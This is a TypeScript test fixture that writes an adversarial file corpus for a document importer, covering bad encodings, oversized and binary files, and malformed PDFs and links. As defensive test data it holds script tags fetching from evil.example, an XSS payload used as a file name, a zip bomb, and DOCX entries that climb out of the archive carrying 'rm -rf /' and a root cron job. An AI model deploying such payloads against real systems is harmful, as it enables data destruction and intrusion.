import { promises as fs } from 'node:fs';
import path from 'node:path';
import { writeDocx, writeZip } from './docx-writer';
import { layoutLines, writePdf } from './pdf-writer';
import { englishReport } from './sample-pdfs';

/**
 * Our adversarial corpus: files an analyst's downloads folder really holds, and files built to
 * break an importer. Written to a folder by code (a 10 MB line, 100,000 nested tags and link
 * loops do not belong in git), each with the outcome it must have.
 */
export type Expected =
  | { type: 'imported'; check?: (text: string, title: string) => void }
  | { type: 'skipped'; reason: RegExp }
  | { type: 'duplicate' }
  /** Not an import candidate at all (hidden files); nothing is reported. */
  | { type: 'ignored' };

export interface AdversarialCase {
  /** The file's path relative to the corpus folder, as the import report names it (after the folder name). */
  file: string;
  what: string;
  expected: Expected;
}

const enc = (text: string) => Buffer.from(text, 'utf8');
const article = (title: string, body: string) =>
  `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${title}</title></head>` +
  `<body><article><h1>${title}</h1>${body}</article></body></html>`;
const paragraphs = (topic: string) =>
  [
    `<p>Officials in Brussels and Tokyo met on Tuesday to discuss ${topic}, according to three people present.</p>`,
    '<p>The talks covered export controls on chip-making tools and a shared fund for critical materials.</p>',
    '<p>Neither side published a statement, but a joint paper is expected before the summit in the spring.</p>',
  ].join('');

function png(): Buffer {
  const bytes = Buffer.alloc(2048);
  Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]).copy(bytes);
  for (let i = 8; i < bytes.length; i += 1) bytes[i] = (i * 73 + 11) % 256;
  return bytes;
}

/** Writes the corpus into `dir` and returns the cases, with the path of a file outside it. */
export async function writeAdversarialCorpus(dir: string, outside: string): Promise<AdversarialCase[]> {
  const cases: AdversarialCase[] = [];
  async function add(file: string, what: string, bytes: Buffer | string, expected: Expected) {
    const full = path.join(dir, file);
    await fs.mkdir(path.dirname(full), { recursive: true });
    await fs.writeFile(full, bytes);
    cases.push({ file, what, expected });
  }
  const contains =
    (...needles: string[]) =>
    (text: string) => {
      for (const needle of needles) if (!text.includes(needle)) throw new Error(`missing “${needle}”`);
    };
  const lacks =
    (...needles: string[]) =>
    (text: string) => {
      for (const needle of needles)
        if (text.includes(needle)) throw new Error(`should not contain “${needle}”`);
    };
  const both =
    (...checks: ((text: string, title: string) => void)[]) =>
    (text: string, title: string) => {
      for (const check of checks) check(text, title);
    };

  // Empty, huge and binary.
  await add('empty.txt', 'an empty file', '', { type: 'skipped', reason: /the file is empty/ });
  await add('blank.html', 'a page with no text', '<html><body>   \n\n </body></html>', {
    type: 'skipped',
    reason: /no article text was found in the page/,
  });
  await add('picture.txt', 'PNG bytes with a text extension', png(), {
    type: 'skipped',
    reason: /looks like a binary file/,
  });
  await add('random.html', 'random bytes with an HTML extension', Buffer.from(png().subarray(8).reverse()), {
    type: 'skipped',
    reason: /looks like a binary file/,
  });
  await add('program.exe', 'a program', Buffer.from([0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0]), {
    type: 'skipped',
    reason: /\.exe files are not supported/,
  });
  await add('too-big.txt', 'a 51 MB text file', Buffer.alloc(51 * 1024 * 1024, 'a '), {
    type: 'skipped',
    reason: /is 51\.0 MB; files over 50 MB are not imported/,
  });

  // Encodings, BOMs and line ends.
  await add(
    'invalid-utf8.txt',
    'UTF-8 with stray invalid bytes',
    Buffer.concat([
      enc('Chip talks in Brussels\n\nThe ministers agreed on a shared fund for critical materials. '),
      Buffer.from([0xff, 0xfe, 0xc3]),
      enc(' The fund opens next year and covers gallium and germanium.\n'),
    ]),
    { type: 'imported', check: contains('gallium and germanium') },
  );
  await add(
    'windows-1252.txt',
    'windows-1252 text',
    Buffer.from(
      'Déclaration de Bruxelles\n\nLes ministres ont évoqué la coopération sur les semi-conducteurs « à long terme ».\n',
      'latin1',
    ),
    { type: 'imported', check: contains('évoqué', '« à long terme »') },
  );
  await add(
    'utf16le-bom.txt',
    'UTF-16 LE with a BOM',
    Buffer.concat([
      Buffer.from([0xff, 0xfe]),
      Buffer.from('Gipfel in Tokio\n\nDie Minister sprachen über Halbleiter und Rohstoffe.\n', 'utf16le'),
    ]),
    { type: 'imported', check: contains('über Halbleiter') },
  );
  await add(
    'utf8-bom.txt',
    'UTF-8 with a BOM',
    Buffer.concat([
      Buffer.from([0xef, 0xbb, 0xbf]),
      enc('Summit in Tokyo\n\nLeaders discussed chips and rare earths.\n'),
    ]),
    { type: 'imported', check: both(contains('rare earths'), lacks('\ufeff')) },
  );
  await add(
    'crlf.txt',
    'Windows line ends',
    'Pact signed\r\n\r\nThe pact was signed in Osaka.\r\nIt covers AI.\r\n',
    {
      type: 'imported',
      check: both(contains('signed in Osaka'), lacks('\r')),
    },
  );
  await add(
    'cr-only.txt',
    'old Mac line ends',
    'Old clip\r\rThe clip was saved on an old Mac.\rIt still reads.\r',
    {
      type: 'imported',
      check: both(contains('saved on an old Mac'), lacks('\r')),
    },
  );
  await add(
    'nul-bytes.txt',
    'text with NUL bytes inside',
    enc(
      'Clip with NULs\n\nThe text\u0000 was saved by a broken tool\u0000 but is still an article about chips.\n',
    ),
    { type: 'skipped', reason: /binary file \(NUL bytes at offset \d+\)/ },
  );
  await add(
    'meta-charset-1251.html',
    'windows-1251 declared in <meta charset>',
    Buffer.concat([
      enc('<html><head><meta charset="windows-1251"><title>'),
      Buffer.from([0xcf, 0xf0, 0xe8, 0xe2, 0xe5, 0xf2]), // "Привет"
      enc('</title></head><body><article><p>'),
      Buffer.from([0xcf, 0xf0, 0xe8, 0xe2, 0xe5, 0xf2]),
      enc(' Tokyo and Brussels discussed chips and materials at length.</p></article></body></html>'),
    ]),
    { type: 'imported', check: contains('Привет') },
  );

  // Invisible and direction characters: kept visible in the text, stripped from titles.
  await add(
    'zero-width.html',
    'zero-width and bidi controls in the title and text',
    article(
      'Chip\u200b pact\u202e signed\u2066',
      `<p>Zero\u200dwidth joiners stay in the text.</p>${paragraphs('chips')}`,
    ),
    {
      type: 'imported',
      check: (text, title) => {
        if (/[\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069]/.test(title)) {
          throw new Error(`the title keeps hiding characters: ${JSON.stringify(title)}`);
        }
        if (title !== 'Chip pact signed') throw new Error(`unexpected title ${JSON.stringify(title)}`);
        contains('Zero\u200dwidth')(text);
      },
    },
  );

  // Pathological sizes and shapes.
  await add('one-line.txt', 'a 10 MB single line', `Long line. ${'chips and materials '.repeat(520_000)}`, {
    type: 'imported',
    check: contains('chips and materials'),
  });
  await add(
    'deep.html',
    'HTML nested 100,000 deep',
    `<html><body>${'<div>'.repeat(100_000)}<p>Deep inside, Tokyo and Brussels agree on chips and materials.</p>${'</div>'.repeat(100_000)}</body></html>`,
    { type: 'imported', check: contains('Tokyo and Brussels agree') },
  );

  // Active content: none of it may end up as text, and nothing is fetched.
  await add(
    'scripts.html',
    'a page full of script, handlers and javascript: links',
    article(
      'Scripted page',
      `<script>document.title='pwned'; fetch('https://evil.example/x')</script>${paragraphs('chips')}` +
        `<p onclick="alert(1)">Handlers are not text. <a href="javascript:alert(2)">A link</a> stays text.</p>` +
        '<script type="module">import "https://evil.example/m.js"</script>',
    ),
    { type: 'imported', check: both(contains('A link'), lacks('pwned', 'evil.example', 'alert(')) },
  );
  await add(
    'iframe.html',
    'an iframe with srcdoc',
    article(
      'Framed page',
      `<iframe srcdoc="<p>Inner frame text</p><script>alert(1)</script>"></iframe>${paragraphs('frames')}`,
    ),
    { type: 'imported', check: both(contains('met on Tuesday'), lacks('alert(', '<script')) },
  );
  await add(
    'svg.html',
    'inline SVG with a script',
    article(
      'SVG page',
      `<svg><script>alert(1)</script><text>Chart label</text></svg>${paragraphs('charts')}`,
    ),
    { type: 'imported', check: both(contains('met on Tuesday'), lacks('alert(')) },
  );
  await add(
    'base.html',
    'a <base> element and remote images, CSS and fonts',
    article(
      'Remote page',
      '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/a.css">' +
        '<img src="https://evil.example/pixel.gif"><style>@import url(https://evil.example/b.css)</style>' +
        paragraphs('tracking pixels'),
    ),
    { type: 'imported', check: both(contains('tracking pixels'), lacks('evil.example', '@import')) },
  );
  await add(
    'markdown-html.md',
    'Markdown with raw HTML and a javascript: link',
    '# Notes on chips\n\nThe council met in Tokyo. <script>alert(1)</script>\n\n[click](javascript:alert(1)) for more on materials and chips.\n',
    { type: 'imported', check: both(contains('The council met in Tokyo'), lacks('<script>')) },
  );

  // File names.
  await add(
    '<img src=x onerror=alert(1)>.html',
    'a file name that is an XSS payload',
    article('Payload name', paragraphs('names')),
    {
      type: 'imported',
    },
  );
  await add(
    'line\nbreak.txt',
    'a newline in the file name',
    'Odd name\n\nA clip whose name has a newline, about chips in Osaka.\n',
    {
      type: 'imported',
    },
  );
  await add(
    'CON.txt',
    'a name reserved on Windows',
    'Reserved name\n\nA clip named like a device, about chips in Brussels.\n',
    {
      type: 'imported',
    },
  );
  await add(
    'caf\u00e9.txt',
    'an NFC name',
    'NFC name\n\nThis clip is stored under a composed é, about chips.\n',
    {
      type: 'imported',
    },
  );
  await add(
    'cafe\u0301.txt',
    'the NFD form of the same name',
    'NFD name\n\nThis clip is stored under a decomposed é, about materials.\n',
    {
      type: 'imported',
    },
  );
  const longName = `${'long-name-'.repeat(24)}abcdefghij.txt`.slice(0, 251) + '.txt';
  await add(
    longName,
    'a 255-byte file name',
    'Long name\n\nA clip with the longest name a folder allows, about chips.\n',
    {
      type: 'imported',
    },
  );
  await add('.DS_Store', 'a hidden file', Buffer.from([0, 0, 0, 1, 0x42, 0x75, 0x64, 0x31]), {
    type: 'ignored',
  });

  // Duplicates and folders.
  const story = article('Same story twice', paragraphs('duplicates'));
  await add('copies/first.html', 'a story', story, { type: 'imported' });
  await add('copies/second.html', 'the same bytes under another name', story, { type: 'duplicate' });
  await add(
    'nested/a/b/c/d/e/deep-file.txt',
    'a file five folders down',
    'Deep file\n\nFound five folders down, about chips.\n',
    {
      type: 'imported',
    },
  );

  // Word and PDF files built to hurt: a zip bomb, entries that climb out of the archive, a cut and a
  // locked PDF, and one with no text layer.
  await add(
    'bomb.docx',
    'a DOCX whose 80 MB of zeros deflate to 80 KB',
    Buffer.from(writeZip([{ name: 'word/document.xml', data: new Uint8Array(80 * 1024 * 1024) }])),
    { type: 'skipped', reason: /refused as a zip bomb/ },
  );
  await add(
    'climbing.docx',
    'a DOCX with ../ and absolute entries',
    Buffer.from(
      writeDocx([{ type: 'p', text: 'The memo on chips and materials was filed in Tokyo on Tuesday.' }], {}, [
        { name: '../../evil.sh', data: 'rm -rf /' },
        { name: '/etc/cron.d/evil', data: '* * * * * root evil' },
      ]),
    ),
    { type: 'imported', check: contains('The memo on chips and materials was filed in Tokyo') },
  );
  await add('cut.pdf', 'a PDF cut in half', Buffer.from(englishReport().slice(0, 900)), {
    type: 'skipped',
    reason: /truncated or damaged/,
  });
  await add(
    'locked.pdf',
    'a password-protected PDF',
    Buffer.from(writePdf({ pages: [{ lines: layoutLines([{ lines: ['Secret'] }]) }], encrypted: true })),
    { type: 'skipped', reason: /password-protected/ },
  );
  await add(
    'scanned.pdf',
    'a PDF with pages but no text',
    Buffer.from(
      writePdf({
        pages: [
          { lines: [], image: true },
          { lines: [], image: true },
        ],
      }),
    ),
    {
      type: 'skipped',
      reason: /no text layer/,
    },
  );

  // Links: a loop, a link out of the folder, a broken link.
  await fs.mkdir(path.join(dir, 'links'), { recursive: true });
  await fs.symlink('..', path.join(dir, 'links', 'loop'));
  cases.push({
    file: 'links/loop',
    what: 'a link to its own parent folder',
    expected: { type: 'skipped', reason: /a link back to a folder already imported \(a loop\)/ },
  });
  await fs.writeFile(outside, 'Outside\n\nThis file lives outside the imported folder.\n');
  await fs.symlink(outside, path.join(dir, 'links', 'outside.txt'));
  cases.push({
    file: 'links/outside.txt',
    what: 'a link to a file outside the folder',
    expected: { type: 'skipped', reason: /outside the folder/ },
  });
  await fs.symlink(path.join(dir, 'does-not-exist.txt'), path.join(dir, 'links', 'broken.txt'));
  cases.push({
    file: 'links/broken.txt',
    what: 'a broken link',
    expected: { type: 'skipped', reason: /broken or looping link/ },
  });
  return cases;
}
